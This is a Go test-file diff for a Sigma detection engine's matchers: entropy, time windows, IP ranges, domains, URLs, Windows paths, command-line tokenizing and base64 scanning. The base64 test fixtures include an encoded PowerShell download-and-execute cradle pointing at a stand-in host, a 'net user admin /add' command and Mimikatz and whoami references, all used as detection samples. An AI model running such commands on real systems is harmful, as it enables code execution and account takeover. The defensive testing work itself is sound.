@@ -1,7 +1,12 @@
 package matcher
 
 import (
+	"fmt"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/PhucNguyen204/sigma-engine-golang/internal/ir"
 )
 
 func TestRangeMatching(t *testing.T) {
@@ -257,6 +262,45 @@ func TestCIDRMatchingComprehensive(t *testing.T) {
 	}
 }
 
+func TestLengthAndEntropyMatching(t *testing.T) {
+	if entropy := ShannonEntropy("aaaa"); entropy != 0 {
+		t.Errorf("Expected zero entropy for a repeated byte, got %f", entropy)
+	}
+	if entropy := ShannonEntropy("abcd"); entropy != 2 {
+		t.Errorf("Expected entropy 2 for four distinct bytes, got %f", entropy)
+	}
+
+	entropyGt := CreateEntropyGreaterThanMatch()
+	encoded := "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+	if matched, _ := entropyGt(encoded, []string{"5.5"}, nil); !matched {
+		t.Errorf("Expected encoded blob to exceed entropy 5.5 (got %f)", ShannonEntropy(encoded))
+	}
+	if matched, _ := entropyGt("powershell.exe -NoProfile", []string{"5.5"}, nil); matched {
+		t.Error("Expected plain command line not to exceed entropy 5.5")
+	}
+	if matched, _ := entropyGt("aaaaaaaaaaaaaaaa", []string{"1"}, nil); matched {
+		t.Error("Expected low-entropy value not to match")
+	}
+	if _, err := entropyGt(encoded, []string{"high"}, nil); err == nil {
+		t.Error("Expected an error for a non-numeric threshold")
+	}
+
+	lengthGt := CreateLengthGreaterThanMatch()
+	lengthLt := CreateLengthLessThanMatch()
+	if matched, _ := lengthGt("abcdef", []string{"5"}, nil); !matched {
+		t.Error("Expected length 6 > 5")
+	}
+	if matched, _ := lengthGt("abcde", []string{"5"}, nil); matched {
+		t.Error("Expected length 5 not > 5")
+	}
+	if matched, _ := lengthLt("abc", []string{"4"}, nil); !matched {
+		t.Error("Expected length 3 < 4")
+	}
+	if matched, _ := lengthLt("abcd", []string{"4"}, nil); matched {
+		t.Error("Expected length 4 not < 4")
+	}
+}
+
 func TestAdvancedMatchersErrorHandling(t *testing.T) {
 	rangeMatcher := CreateNumericRangeMatch()
 
@@ -290,3 +334,398 @@ func TestAdvancedMatchersErrorHandling(t *testing.T) {
 		t.Errorf("Should still match on exact strings despite invalid threshold")
 	}
 }
+
+func TestTimeMatching(t *testing.T) {
+	before := CreateBeforeMatch()
+	after := CreateAfterMatch()
+	between := CreateBetweenMatch()
+
+	tests := []struct {
+		name      string
+		matcher   MatchFn
+		value     string
+		patterns  []string
+		modifiers []string
+		expected  bool
+	}{
+		{"rfc3339 before", before, "2024-01-01T10:00:00Z", []string{"2024-01-02T00:00:00Z"}, nil, true},
+		{"rfc3339 not before", before, "2024-01-03T10:00:00Z", []string{"2024-01-02T00:00:00Z"}, nil, false},
+		{"epoch after", after, "1704103200", []string{"2024-01-01T00:00:00Z"}, nil, true},
+		{"epoch ms after", after, "1704103200000", []string{"2024-01-01T12:00:00Z"}, nil, false},
+		{"explicit epoch", before, "100", []string{"1970-01-01T00:02:00Z"}, []string{"format:epoch"}, true},
+		{"custom layout", after, "02/01/2024 08:00", []string{"2024-01-01T00:00:00Z"}, []string{"format:02/01/2006 15:04"}, true},
+		{"window", between, "2024-01-15T00:00:00Z", []string{"2024-01-01T00:00:00Z..2024-02-01T00:00:00Z"}, nil, true},
+		{"outside window", between, "2024-03-15T00:00:00Z", []string{"2024-01-01T00:00:00Z..2024-02-01T00:00:00Z"}, nil, false},
+		{"off hours", between, "2024-01-01T23:30:00Z", []string{"18:00..06:00"}, nil, true},
+		{"office hours", between, "2024-01-01T12:00:00Z", []string{"18:00..06:00"}, nil, false},
+		{"clock after", after, "2024-01-01T19:00:00+02:00", []string{"18:00"}, nil, false},
+		{"clock after in zone", after, "2024-01-01T19:00:00+02:00", []string{"18:00"}, []string{"tz:Etc/GMT-2"}, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			matched, err := tt.matcher(tt.value, tt.patterns, tt.modifiers)
+			if err != nil {
+				t.Fatalf("Time match failed: %v", err)
+			}
+			if matched != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+
+	if matched, err := before("not a time", []string{"2024-01-01T00:00:00Z"}, nil); matched || err != nil {
+		t.Errorf("Expected an unparseable field value not to match, got %v (err=%v)", matched, err)
+	}
+	if _, err := between("2024-01-01T00:00:00Z", []string{"2024-01-01T00:00:00Z"}, nil); err == nil {
+		t.Error("Expected error for window without end")
+	}
+
+	// Compiled primitives parse their patterns once, when compiled
+	builder := NewComprehensiveMatcherBuilder()
+	primitive, err := builder.CompilePrimitive(ir.Primitive{Field: "ts", MatchType: "between", Values: []string{"18:00..06:00"}})
+	if err != nil {
+		t.Fatalf("Failed to compile primitive: %v", err)
+	}
+	for value, expected := range map[string]bool{"2024-01-01T23:30:00Z": true, "2024-01-01T12:00:00Z": false, "not a time": false} {
+		if matched, err := primitive.Matches(NewEventContext(map[string]interface{}{"ts": value})); err != nil || matched != expected {
+			t.Errorf("%s: expected %v, got %v (err=%v)", value, expected, matched, err)
+		}
+	}
+	for _, pattern := range []string{"2024-01-01T00:00:00Z", "18:00..2024-01-01T00:00:00Z"} {
+		if _, err := builder.CompilePrimitive(ir.Primitive{Field: "ts", MatchType: "between", Values: []string{pattern}}); err == nil {
+			t.Errorf("%s: expected an invalid window to fail compilation", pattern)
+		}
+	}
+	if _, err := builder.CompilePrimitive(ir.Primitive{Field: "ts", MatchType: "after", Values: []string{"soon"}}); err == nil {
+		t.Error("Expected an invalid pattern to fail compilation")
+	}
+}
+
+func TestIPClassMatching(t *testing.T) {
+	tests := []struct {
+		name     string
+		matcher  MatchFn
+		value    string
+		pattern  string
+		expected bool
+	}{
+		{"private rfc1918", CreatePrivateIPMatch(), "10.1.2.3", "true", true},
+		{"private ipv6 ula", CreatePrivateIPMatch(), "fd00::1", "true", true},
+		{"private negated", CreatePrivateIPMatch(), "8.8.8.8", "false", true},
+		{"public", CreatePublicIPMatch(), "8.8.8.8", "true", true},
+		{"cgnat not public", CreatePublicIPMatch(), "100.64.1.1", "true", false},
+		{"documentation not public", CreatePublicIPMatch(), "2001:db8::1", "true", false},
+		{"loopback", CreateLoopbackIPMatch(), "127.0.0.53", "true", true},
+		{"ipv6 loopback", CreateLoopbackIPMatch(), "::1", "true", true},
+		{"mapped private", CreatePrivateIPMatch(), "::ffff:192.168.1.1", "true", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			matched, err := tt.matcher(tt.value, []string{tt.pattern}, nil)
+			if err != nil {
+				t.Fatalf("IP match failed: %v", err)
+			}
+			if matched != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+
+	if matched, err := CreatePrivateIPMatch()("not-an-ip", []string{"false"}, nil); matched || err != nil {
+		t.Errorf("Expected an invalid IP address not to match, got %v (err=%v)", matched, err)
+	}
+	if _, err := CreatePrivateIPMatch()("10.0.0.1", []string{"yes please"}, nil); err == nil {
+		t.Error("Expected error for non-boolean pattern")
+	}
+}
+
+func TestIPRangeSet(t *testing.T) {
+	set, err := NewIPRangeSet([]string{"10.0.0.0/8", "10.1.0.0/16", "192.168.1.10-192.168.1.20", "192.168.1.21", "2001:db8::/32"})
+	if err != nil {
+		t.Fatalf("Failed to build range set: %v", err)
+	}
+	if set.Len() != 3 {
+		t.Errorf("Expected overlapping and adjacent ranges to merge into 3 intervals, got %d", set.Len())
+	}
+
+	ranges := CreateIPInRangesMatch()
+	values := []string{"10.0.0.0/8", "192.168.1.10-192.168.1.20", "2001:db8::/32"}
+	tests := map[string]bool{
+		"10.255.255.255":  true,
+		"11.0.0.0":        false,
+		"192.168.1.15":    true,
+		"192.168.1.21":    false,
+		"2001:db8::42":    true,
+		"2001:db9::1":     false,
+		"::ffff:10.0.0.1": true,
+	}
+	for value, expected := range tests {
+		matched, err := ranges(value, values, nil)
+		if err != nil {
+			t.Fatalf("Range match failed for %s: %v", value, err)
+		}
+		if matched != expected {
+			t.Errorf("%s: expected %v, got %v", value, expected, matched)
+		}
+	}
+
+	if _, err := NewIPRangeSet([]string{"10.0.0.9-10.0.0.1"}); err == nil {
+		t.Error("Expected error for reversed range")
+	}
+
+	// Compiled primitives parse their ranges once, when compiled
+	builder := NewComprehensiveMatcherBuilder()
+	primitive, err := builder.CompilePrimitive(ir.Primitive{Field: "SourceIp", MatchType: "ip_in_ranges", Values: values})
+	if err != nil {
+		t.Fatalf("Failed to compile primitive: %v", err)
+	}
+	for value, expected := range map[string]bool{"192.168.1.15": true, "11.0.0.0": false, "not-an-ip": false} {
+		ctx := NewEventContext(map[string]interface{}{"SourceIp": value})
+		if matched, err := primitive.Matches(ctx); err != nil || matched != expected {
+			t.Errorf("%s: expected %v, got %v (err=%v)", value, expected, matched, err)
+		}
+	}
+
+	// Under a deadline values are matched in groups
+	var addresses []string
+	for i := 1; i <= 2*deadlineCheckInterval; i++ {
+		addresses = append(addresses, fmt.Sprintf("10.0.0.%d", i))
+	}
+	primitive, err = builder.CompilePrimitive(ir.Primitive{Field: "SourceIp", MatchType: "ip_in_ranges", Values: addresses})
+	if err != nil {
+		t.Fatalf("Failed to compile primitive: %v", err)
+	}
+	ctx := NewEventContext(map[string]interface{}{"SourceIp": addresses[len(addresses)-1]})
+	ctx.SetDeadline(time.Now().Add(time.Hour), nil)
+	if matched, err := primitive.Matches(ctx); err != nil || !matched {
+		t.Errorf("Expected the last address to match under a deadline, got %v (err=%v)", matched, err)
+	}
+	if _, err := builder.CompilePrimitive(ir.Primitive{Field: "SourceIp", MatchType: "ip_in_ranges", Values: []string{"10.0.0.0/33"}}); err == nil {
+		t.Error("Expected an invalid range to fail compilation")
+	}
+}
+
+func TestDomainMatching(t *testing.T) {
+	endsWith := CreateDomainEndsWithMatch()
+	tests := map[string]bool{
+		"evil.com":      true,
+		"a.b.EVIL.com.": true,
+		"notevil.com":   false,
+		"evil.com.au":   false,
+		"":              false,
+	}
+	for domain, expected := range tests {
+		matched, err := endsWith(domain, []string{"evil.com"}, nil)
+		if err != nil {
+			t.Fatalf("Domain match failed: %v", err)
+		}
+		if matched != expected {
+			t.Errorf("%q: expected %v, got %v", domain, expected, matched)
+		}
+	}
+
+	etld1 := CreateETLDPlusOneMatch()
+	if matched, _ := etld1("login.portal.example.co.uk", []string{"example.co.uk"}, nil); !matched {
+		t.Error("Expected subdomain to share the registrable domain")
+	}
+	if matched, _ := etld1("example.co.uk", []string{"other.co.uk"}, nil); matched {
+		t.Error("Expected different registrable domains not to match")
+	}
+	if matched, _ := etld1("co.uk", []string{"co.uk"}, nil); matched {
+		t.Error("Expected a public suffix to have no registrable domain")
+	}
+}
+
+func TestURLModifiersAndParams(t *testing.T) {
+	rawURL := "https://Files.Example.com:8443/dl/payload.ps1?id=7&cmd=whoami"
+
+	modifiers := []struct {
+		name     string
+		modifier ModifierFn
+		expected string
+	}{
+		{"host", CreateURLHostModifier(), "files.example.com"},
+		{"path", CreateURLPathModifier(), "/dl/payload.ps1"},
+		{"query", CreateURLQueryModifier(), "id=7&cmd=whoami"},
+		{"etld1", CreateETLDPlusOneModifier(), "example.com"},
+	}
+	for _, tt := range modifiers {
+		input := rawURL
+		if tt.name == "etld1" {
+			input = "files.example.com"
+		}
+		output, err := tt.modifier(input)
+		if err != nil {
+			t.Fatalf("%s modifier failed: %v", tt.name, err)
+		}
+		if output != tt.expected {
+			t.Errorf("%s: expected %q, got %q", tt.name, tt.expected, output)
+		}
+	}
+
+	if host, _ := CreateURLHostModifier()("example.org/index.html"); host != "example.org" {
+		t.Errorf("Expected host of scheme-less URL, got %q", host)
+	}
+
+	param := CreateURLParamMatch()
+	for pattern, expected := range map[string]bool{"cmd=whoami": true, "cmd=id": false, "id": true, "debug": false} {
+		matched, err := param(rawURL, []string{pattern}, nil)
+		if err != nil {
+			t.Fatalf("URL param match failed: %v", err)
+		}
+		if matched != expected {
+			t.Errorf("%q: expected %v, got %v", pattern, expected, matched)
+		}
+	}
+}
+
+func TestWindowsPathNormalization(t *testing.T) {
+	tests := []struct {
+		input      string
+		shortNames bool
+		expected   string
+	}{
+		{`C:\Windows\System32\cmd.exe`, false, `c:\windows\system32\cmd.exe`},
+		{`C:/Windows//System32/CMD.EXE`, false, `c:\windows\system32\cmd.exe`},
+		{`\\?\C:\Windows\System32\cmd.exe`, false, `c:\windows\system32\cmd.exe`},
+		{`\??\C:\Windows\System32\cmd.exe`, false, `c:\windows\system32\cmd.exe`},
+		{`\\?\UNC\fileserver\share\tool.exe`, false, `\\fileserver\share\tool.exe`},
+		{`%SystemRoot%\System32\cmd.exe`, false, `c:\windows\system32\cmd.exe`},
+		{`\SystemRoot\System32\drivers\evil.sys`, false, `c:\windows\system32\drivers\evil.sys`},
+		{`%ProgramFiles(x86)%\App\app.exe`, false, `c:\program files (x86)\app\app.exe`},
+		{`%TEMP%\payload.exe`, false, `%temp%\payload.exe`},
+		{`"C:\PROGRA~1\App\app.exe"`, false, `c:\progra~1\app\app.exe`},
+		{`C:\PROGRA~1\App\app.exe`, true, `c:\program files\app\app.exe`},
+	}
+	for _, tt := range tests {
+		if normalized := NormalizeWindowsPath(tt.input, tt.shortNames); normalized != tt.expected {
+			t.Errorf("%q: expected %q, got %q", tt.input, tt.expected, normalized)
+		}
+	}
+
+	if _, err := CreateWindowsPathModifierFactory()([]string{"bogus"}); err == nil {
+		t.Error("Expected an error for an unknown winpath argument")
+	}
+}
+
+func TestWindowsPathMatching(t *testing.T) {
+	path := `\\?\C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe`
+
+	tests := []struct {
+		name     string
+		matcher  MatchFn
+		pattern  string
+		expected bool
+	}{
+		{"startswith env", CreateWindowsPathStartsWithMatch(), `%SystemRoot%/System32/`, true},
+		{"startswith other", CreateWindowsPathStartsWithMatch(), `%ProgramFiles%\`, false},
+		{"endswith", CreateWindowsPathEndsWithMatch(), `\PowerShell.exe`, true},
+		{"equals", CreateWindowsPathEqualsMatch(), `C:\Windows\System32\WINDOW~1\v1.0\powershell.exe`, true},
+		{"contains", CreateWindowsPathContainsMatch(), `/windowspowershell/`, true},
+	}
+	for _, tt := range tests {
+		matched, err := tt.matcher(path, []string{tt.pattern}, nil)
+		if err != nil {
+			t.Fatalf("%s: unexpected error: %v", tt.name, err)
+		}
+		if matched != tt.expected {
+			t.Errorf("%s: expected %v, got %v", tt.name, tt.expected, matched)
+		}
+	}
+}
+
+func TestCommandLineTokenizer(t *testing.T) {
+	tests := []struct {
+		name     string
+		input    string
+		quoting  CommandLineQuoting
+		expected []string
+	}{
+		{"windows plain", `cmd.exe /c whoami`, WindowsQuoting, []string{"cmd.exe", "/c", "whoami"}},
+		{"windows quoted", `"C:\Program Files\app.exe" -x "a b"`, WindowsQuoting, []string{`C:\Program Files\app.exe`, "-x", "a b"}},
+		{"windows escaped quote", `a\"b "c\\" d`, WindowsQuoting, []string{`a"b`, `c\`, "d"}},
+		{"windows doubled quote", `"say ""hi""" x`, WindowsQuoting, []string{`say "hi"`, "x"}},
+		{"windows trailing backslashes", `C:\dir\\ x`, WindowsQuoting, []string{`C:\dir\\`, "x"}},
+		{"posix quotes", `sh -c 'echo $HOME' "a \"b\""`, POSIXQuoting, []string{"sh", "-c", "echo $HOME", `a "b"`}},
+		{"posix escapes", `rm a\ b\'c`, POSIXQuoting, []string{"rm", "a b'c"}},
+		{"empty quoted", `x "" y`, WindowsQuoting, []string{"x", "", "y"}},
+	}
+	for _, tt := range tests {
+		args := TokenizeCommandLine(tt.input, tt.quoting)
+		if strings.Join(args, "|") != strings.Join(tt.expected, "|") || len(args) != len(tt.expected) {
+			t.Errorf("%s: expected %q, got %q", tt.name, tt.expected, args)
+		}
+	}
+}
+
+func TestArgumentMatching(t *testing.T) {
+	commandLine := `powershell.exe -NoProfile -Enc SQBFAFgA "-comment=-enc later"`
+
+	argEquals := CreateArgEqualsMatch()
+	if matched, _ := argEquals(commandLine, []string{"-enc"}, nil); !matched {
+		t.Error("Expected -Enc argument to match case-insensitively")
+	}
+	if matched, _ := argEquals(`tool.exe --encoding=utf8 -encrypt`, []string{"-enc"}, nil); matched {
+		t.Error("Expected no match on substrings of other arguments")
+	}
+	if matched, _ := argEquals(`ls -LA`, []string{"-la"}, []string{"quoting:posix"}); matched {
+		t.Error("Expected POSIX comparisons to be case-sensitive")
+	}
+	if _, err := argEquals(commandLine, []string{"-enc"}, []string{"quoting:vms"}); err == nil {
+		t.Error("Expected an error for unknown quoting")
+	}
+
+	argContains := CreateArgContainsMatch()
+	if matched, _ := argContains(commandLine, []string{"comment=-enc later"}, nil); !matched {
+		t.Error("Expected quoted argument to be matched as a whole")
+	}
+	if matched, _ := argContains(commandLine, []string{"-noprofile -enc"}, nil); matched {
+		t.Error("Expected no match across argument boundaries")
+	}
+}
+
+func TestBase64ScanMatching(t *testing.T) {
+	// UTF-16LE payload as passed to powershell -EncodedCommand
+	payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="
+	commandLine := "powershell.exe -NoProfile -EncodedCommand " + payload
+
+	registry := NewComprehensiveMatcherBuilder().GetRegistry()
+	scan := CreateBase64ScanMatch(registry)
+
+	tests := []struct {
+		name      string
+		value     string
+		patterns  []string
+		modifiers []string
+		expected  bool
+	}{
+		{"utf16 contains", commandLine, []string{"DownloadString"}, nil, true},
+		{"utf16 no match", commandLine, []string{"Invoke-Mimikatz"}, nil, false},
+		{"ascii payload", "curl -d aGVsbG8gZnJvbSBhIHJldmVyc2Ugc2hlbGw= x", []string{"reverse shell"}, nil, true},
+		{"inner startswith", commandLine, []string{"IEX"}, []string{"inner:startswith"}, true},
+		{"run too short", "echo aGVsbG8=", []string{"hello"}, nil, false},
+		{"minlen lowered", "echo aGVsbG8=", []string{"hello"}, []string{"minlen:4"}, true},
+		{"maxsize truncates", commandLine, []string{"evil.example"}, []string{"maxsize:32"}, false},
+		{"plain text", "net user admin /add", []string{"admin"}, nil, false},
+		{"case sensitive", commandLine, []string{"downloadstring"}, nil, false},
+		{"ignorecase", commandLine, []string{"downloadstring"}, []string{"ignorecase"}, true},
+	}
+	for _, tt := range tests {
+		matched, err := scan(tt.value, tt.patterns, tt.modifiers)
+		if err != nil {
+			t.Fatalf("%s: unexpected error: %v", tt.name, err)
+		}
+		if matched != tt.expected {
+			t.Errorf("%s: expected %v, got %v", tt.name, tt.expected, matched)
+		}
+	}
+
+	if _, err := scan(commandLine, []string{"x"}, []string{"inner:nonexistent"}); err == nil {
+		t.Error("Expected an error for an unknown inner matcher")
+	}
+	if _, err := scan(commandLine, []string{"x"}, []string{"maxsize:0"}); err == nil {
+		t.Error("Expected an error for a non-positive size limit")
+	}
+}